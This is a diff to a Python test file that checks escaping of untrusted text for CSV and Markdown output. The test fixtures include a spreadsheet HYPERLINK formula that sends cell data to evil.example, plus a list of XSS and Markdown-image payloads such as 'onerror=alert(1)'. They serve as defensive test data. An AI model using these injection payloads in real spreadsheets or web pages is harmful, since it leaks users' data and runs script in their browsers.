@@ -18,7 +18,7 @@ from core.measure import runs_to_csv
 from core.pricing import ModelPrice, PriceTable, load_price_table
 from core.streaming import StreamRecord
 from core.trace import CallTrace, Outcome
-from core.untrusted import code_span, csv_cell, csv_text, escape_markdown
+from core.untrusted import answer_markdown, code_span, csv_cell, csv_text, escape_markdown
 from tests.ledger_records import ledger_record
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
@@ -97,3 +97,31 @@ def test_a_code_span_is_not_closed_by_a_backtick_inside_it() -> None:
     span = code_span("oops` ![x](https://evil.example/t.png) `")
     fence = span.split(" ")[0]
     assert set(fence) == {"`"} and len(fence) == 2 and span.endswith(" " + fence)
+
+
+NASTY = [
+    "![t](https://evil.example/t.png)", "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>",
+    "`code` and ``two``", "**bold** _it_ ~~gone~~", "# heading", "- item", "1. first", "a | b | c",
+    "$x^2$", ":red[alert] :material/home: :smile:", "&lt;entity&gt;", "<https://evil.example>",
+    "trailing backslash \\", "https://evil.example/path?q=1",
+]
+
+
+@pytest.mark.parametrize("text", NASTY)
+def test_escaped_text_renders_as_exactly_its_characters(text: str) -> None:
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").render(escape_markdown(text))
+    assert "<img" not in html and "<a " not in html and "<code>" not in html and "<em>" not in html
+    assert "<strong>" not in html and "<h1>" not in html and "<li>" not in html
+    inner = html.removeprefix("<p>").removesuffix("</p>\n")
+    import html as html_lib
+
+    assert html_lib.unescape(inner) == text
+
+
+def test_an_answer_keeps_its_lines() -> None:
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").render(answer_markdown("one\n- two\n![x](https://e.example/x.png)"))
+    assert html.count("<br />") == 2 and "<img" not in html and "<li>" not in html
